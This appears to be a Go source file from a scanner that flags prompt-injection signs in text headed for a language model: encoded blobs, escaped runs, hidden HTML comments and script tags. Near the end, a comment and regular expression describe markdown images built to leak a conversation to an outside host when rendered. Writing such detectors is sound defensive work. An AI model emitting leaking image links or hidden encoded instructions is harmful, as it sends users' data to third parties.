@@ -1,0 +1,398 @@
+package scan
+
+import (
+	"encoding/base64"
+	"encoding/hex"
+	"regexp"
+	"strings"
+	"unicode"
+	"unicode/utf8"
+)
+
+// Encoded payloads. A model decodes base64 or hex without being asked, and
+// a reviewer sees only noise, so a blob that decodes to readable text is the
+// strongest form of this signal. Blobs that do not decode to text are
+// reported only when long and random-looking; ordinary identifiers, UUIDs,
+// digests (sha256 is 64 hex digits, sha512 128) and URL paths are not.
+
+const (
+	minBlob       = 40  // shortest base64 or hex run considered
+	minOpaqueB64  = 120 // shortest non-text base64 run reported
+	minOpaqueHex  = 129 // longer than a sha512 digest
+	minEscapedRun = 10  // consecutive %XX, \xNN, \uNNNN or &#N; escapes
+)
+
+// b64 classes: 1 letters and digits, 2 '+' and '/', 3 '-' and '_'.
+var b64Class = func() (t [256]uint8) {
+	for c := 'A'; c <= 'Z'; c++ {
+		t[c] = 1
+	}
+	for c := 'a'; c <= 'z'; c++ {
+		t[c] = 1
+	}
+	for c := '0'; c <= '9'; c++ {
+		t[c] = 1
+	}
+	t['+'], t['/'] = 2, 2
+	t['-'], t['_'] = 3, 3
+	return
+}()
+
+func (c *textCtx) findEncoded() {
+	o := c.orig
+	// Runs shorter than minBlob are skipped without looking at most of
+	// their bytes: test the last byte of the window first and jump past
+	// the last separator found (i is always the start of a run).
+	for i := 0; i+minBlob <= len(o); {
+		k := i + minBlob - 1
+		for k >= i && b64Class[o[k]] != 0 {
+			k--
+		}
+		if k >= i {
+			i = k + 1
+			continue
+		}
+		j := i + minBlob
+		for j < len(o) && b64Class[o[j]] != 0 {
+			j++
+		}
+		if c.checkBlob(i, j) {
+			return
+		}
+		i = j + 1
+	}
+	if strings.IndexByte(o, '%') >= 0 && c.findEscapes(percentRe, decodePercent) {
+		return
+	}
+	if strings.IndexByte(o, '\\') >= 0 && c.findEscapes(backslashRe, decodeBackslash) {
+		return
+	}
+	if strings.Contains(o, "&#") {
+		c.findEscapes(entityRe, decodeEntities)
+	}
+}
+
+// checkBlob judges the run o[i:j] of base64 alphabet characters.
+func (c *textCtx) checkBlob(i, j int) bool {
+	o := c.orig
+	run := o[i:j]
+	inURL := tokenBefore(o, i, "://")
+	isHex, std, url := true, false, false
+	for k := 0; k < len(run); k++ {
+		b := run[k]
+		if !(('0' <= b && b <= '9') || ('a' <= b && b <= 'f') || ('A' <= b && b <= 'F')) {
+			isHex = false
+		}
+		switch b64Class[b] {
+		case 2:
+			std = true
+		case 3:
+			url = true
+		}
+	}
+	if isHex {
+		h := run[:len(run)&^1]
+		dec, err := hex.DecodeString(h)
+		if err == nil && readable(dec) && decodedMatters(dec, len(run)) {
+			c.blobHit(i, j, dec)
+			return true
+		}
+		if !inURL && len(run) >= minOpaqueHex {
+			c.blobHit(i, j, nil)
+			return true
+		}
+		return false
+	}
+	if std && url {
+		// A path with dashes ("repos/my-org/my-repo"), not base64. Its
+		// segments may still hide a blob; check each.
+		for k := i; k < j; {
+			l := k
+			for l < j && o[l] != '/' {
+				l++
+			}
+			if l-k >= minBlob && l-k < j-i && c.checkBlob(k, l) {
+				return true
+			}
+			k = l + 1
+		}
+		return false
+	}
+	enc := base64.RawStdEncoding
+	if url {
+		enc = base64.RawURLEncoding
+	}
+	body := run
+	if len(body)%4 == 1 {
+		body = body[:len(body)-1]
+	}
+	if dec, err := enc.DecodeString(body); err == nil && readable(dec) && decodedMatters(dec, len(run)) {
+		c.blobHit(i, j, dec)
+		return true
+	}
+	if !inURL && len(run) >= minOpaqueB64 && randomLooking(run) && !tokenBefore(o, i, "data:image/") {
+		c.blobHit(i, j, nil)
+		return true
+	}
+	return false
+}
+
+// minReadableBlob is the length from which any blob that decodes to text
+// is reported. Shorter ones are documentation examples ("content, e.g.
+// SGVsbG8gd29ybGQ...") unless the decoded text itself trips a rule.
+const minReadableBlob = 80
+
+func decodedMatters(dec []byte, runLen int) bool {
+	if runLen >= minReadableBlob {
+		return true
+	}
+	sub := newTextCtx(string(dec), false)
+	sub.prepare()
+	sub.runPhraseRules()
+	return len(sub.hits) > 0
+}
+
+// tokenBefore reports whether the whitespace-delimited token that ends at i
+// contains marker (used to recognise URLs and image data URIs).
+func tokenBefore(o string, i int, marker string) bool {
+	b := i
+	for b > 0 && i-b < 2048 {
+		ch := o[b-1]
+		if ch == ' ' || ch == '\n' || ch == '\t' || ch == '"' || ch == '\'' || ch == '(' || ch == '<' || ch == '`' {
+			break
+		}
+		b--
+	}
+	return strings.Contains(o[b:i], marker)
+}
+
+// readable reports bytes that are text: valid UTF-8, almost all printable,
+// mostly letters and spaces. Random bytes essentially never pass.
+func readable(b []byte) bool {
+	if len(b) < 16 || !utf8.Valid(b) {
+		return false
+	}
+	total, printable, wordy := 0, 0, 0
+	for _, r := range string(b) {
+		total++
+		if unicode.IsPrint(r) || r == '\n' || r == '\t' || r == '\r' {
+			printable++
+		}
+		if unicode.IsLetter(r) || r == ' ' {
+			wordy++
+		}
+	}
+	return printable*10 >= total*9 && wordy*10 >= total*6
+}
+
+// randomLooking reports a run that mixes upper case, lower case and digits
+// with many distinct characters, as encoded binary does and identifiers and
+// paths do not.
+func randomLooking(s string) bool {
+	var up, low, dig bool
+	var seen [128]bool
+	distinct := 0
+	for i := 0; i < len(s); i++ {
+		b := s[i]
+		switch {
+		case 'A' <= b && b <= 'Z':
+			up = true
+		case 'a' <= b && b <= 'z':
+			low = true
+		case '0' <= b && b <= '9':
+			dig = true
+		}
+		if !seen[b&127] {
+			seen[b&127] = true
+			distinct++
+		}
+	}
+	return up && low && dig && distinct >= 30 && strings.Count(s, "/")*20 < len(s)
+}
+
+func (c *textCtx) blobHit(i, j int, dec []byte) {
+	run := c.orig[i:j]
+	ex := truncateRunes(escapeVisible(run), 44)
+	if dec != nil {
+		ex += ` decodes to "` + escapeVisible(string(dec)) + `"`
+	} else {
+		ex += " (" + itoa(j-i) + " encoded characters)"
+	}
+	c.hits = append(c.hits, hit{sig: sigEncoded, start: i, end: j, excerpt: truncateRunes(ex, maxExcerptRunes)})
+}
+
+var (
+	percentRe   = regexp.MustCompile(`(?:%[0-9A-Fa-f]{2}){10,}`)
+	backslashRe = regexp.MustCompile(`(?:\\x[0-9A-Fa-f]{2}|\\u[0-9A-Fa-f]{4}|\\u\{[0-9A-Fa-f]{1,6}\}){10,}`)
+	entityRe    = regexp.MustCompile(`(?:&#[xX][0-9A-Fa-f]{1,6};|&#[0-9]{1,7};){10,}`)
+)
+
+// findEscapes reports runs of escapes that spell out ASCII letters and
+// digits, which nobody needs to escape: percent-encoded non-ASCII text in a
+// URL is fine, "%69%67%6E%6F%72%65" is obfuscation.
+func (c *textCtx) findEscapes(re *regexp.Regexp, decode func(string) string) bool {
+	for _, m := range re.FindAllStringIndex(c.orig, 16) {
+		dec := decode(c.orig[m[0]:m[1]])
+		alnum := 0
+		for i := 0; i < len(dec); i++ {
+			b := dec[i]
+			if ('a' <= b && b <= 'z') || ('A' <= b && b <= 'Z') || ('0' <= b && b <= '9') {
+				alnum++
+			}
+		}
+		if utf8.RuneCountInString(dec) >= minEscapedRun && alnum*2 >= len(dec) {
+			c.blobHit(m[0], m[1], []byte(dec))
+			return true
+		}
+	}
+	return false
+}
+
+func decodePercent(s string) string {
+	out := make([]byte, 0, len(s)/3)
+	for i := 0; i+2 < len(s); i += 3 {
+		out = append(out, unhex(s[i+1])<<4|unhex(s[i+2]))
+	}
+	return strings.ToValidUTF8(string(out), "\uFFFD")
+}
+
+func decodeBackslash(s string) string {
+	var out []rune
+	for i := 0; i < len(s); {
+		if i+1 >= len(s) || s[i] != '\\' {
+			i++
+			continue
+		}
+		switch {
+		case s[i+1] == 'x' && i+4 <= len(s):
+			out = append(out, rune(unhex(s[i+2])<<4|unhex(s[i+3])))
+			i += 4
+		case s[i+1] == 'u' && i+2 < len(s) && s[i+2] == '{':
+			k := strings.IndexByte(s[i:], '}')
+			if k < 0 {
+				return string(out)
+			}
+			out = append(out, parseHexRune(s[i+3:i+k]))
+			i += k + 1
+		case s[i+1] == 'u' && i+6 <= len(s):
+			out = append(out, parseHexRune(s[i+2:i+6]))
+			i += 6
+		default:
+			i++
+		}
+	}
+	return string(out)
+}
+
+func decodeEntities(s string) string {
+	var out []rune
+	for _, part := range strings.Split(s, ";") {
+		part = strings.TrimPrefix(part, "&#")
+		if part == "" {
+			continue
+		}
+		if part[0] == 'x' || part[0] == 'X' {
+			out = append(out, parseHexRune(part[1:]))
+			continue
+		}
+		var r rune
+		for i := 0; i < len(part) && r <= unicode.MaxRune; i++ {
+			r = r*10 + rune(part[i]-'0')
+		}
+		out = append(out, r)
+	}
+	return string(out)
+}
+
+func parseHexRune(s string) rune {
+	var r rune
+	for i := 0; i < len(s) && r <= unicode.MaxRune; i++ {
+		r = r<<4 | rune(unhex(s[i]))
+	}
+	return r
+}
+
+func unhex(b byte) byte {
+	switch {
+	case '0' <= b && b <= '9':
+		return b - '0'
+	case 'a' <= b && b <= 'f':
+		return b - 'a' + 10
+	case 'A' <= b && b <= 'F':
+		return b - 'A' + 10
+	}
+	return 0
+}
+
+func itoa(n int) string {
+	if n == 0 {
+		return "0"
+	}
+	var b [20]byte
+	i := len(b)
+	for n > 0 {
+		i--
+		b[i] = byte('0' + n%10)
+		n /= 10
+	}
+	return string(b[i:])
+}
+
+// Hidden markup, on the clean text. The CSS and hidden-attribute forms are
+// phrase rules (see rules.go); these start with a rare literal and are
+// cheap to look for directly.
+var mdCommentRe = regexp.MustCompile(`(?m)^[ \t]{0,3}\[[^\]\n]*\]:[ \t]*(?:#|<>|//)[ \t]*(?:\(|"|'|$)`)
+
+func (c *textCtx) findMarkup() {
+	if c.hasHit(sigMarkup) {
+		return
+	}
+	t := c.clean
+	if k := strings.Index(t, "<!--"); k >= 0 {
+		body := t[k+4:]
+		if e := strings.Index(body, "-->"); e >= 0 {
+			body = body[:e]
+		}
+		if strings.IndexFunc(body, func(r rune) bool { return r > ' ' && r != '-' }) >= 0 && !lintPragma(body) {
+			c.addCleanHit(sigMarkup, k, k+4)
+			return
+		}
+	}
+	if k := strings.Index(t, "<script"); k >= 0 {
+		if e := k + 7; e == len(t) || !isWordByte(t[e]) {
+			c.addCleanHit(sigMarkup, k, e)
+			return
+		}
+	}
+	if strings.Contains(t, "]:") {
+		if m := mdCommentRe.FindStringIndex(t); m != nil {
+			c.addCleanHit(sigMarkup, m[0], m[1])
+		}
+	}
+}
+
+// mdImageExfilRe is a markdown image whose URL carries a placeholder in its
+// query ("![](https://x.io/p?d={conversation})"): when the client renders
+// the model's answer, the image fetch delivers whatever the model filled
+// in, without a tool call.
+var mdImageExfilRe = regexp.MustCompile(`!\[[^\]\n]{0,200}\]\(\s*<?(?:https?:)?//[^)\s]*[?&#][^)\s]*=\s*(?:\{|<|\$|%7b|%3c|\[)`)
+
+// findImageExfil reports markdown images built to leak data.
+func (c *textCtx) findImageExfil() {
+	if c.hasHit(sigExfil) || !strings.Contains(c.clean, "![") {
+		return
+	}
+	if m := mdImageExfilRe.FindStringIndex(c.clean); m != nil {
+		c.addCleanHit(sigExfil, m[0], m[1])
+	}
+}
+
+// lintPragma reports HTML comments that tools put in READMEs for their own
+// use ("<!-- prettier-ignore -->", "<!-- toc -->"), which descriptions
+// copied from a README carry along. The match is exact, so that a pragma
+// cannot carry a message.
+func lintPragma(body string) bool {
+	return lintPragmaRe.MatchString(strings.TrimSpace(body))
+}
+
+var lintPragmaRe = regexp.MustCompile(`^(?:prettier-ignore(?:-start|-end)?|markdownlint-(?:disable|enable|capture|restore|disable-next-line|disable-line|disable-file|enable-file)(?:\s+md\d{3})*|/?toc(?:stop)?|end\s?toc|omit\s+in\s+toc|#?(?:end)?region(?:\s+[\w-]+)?|more|truncate)$`)
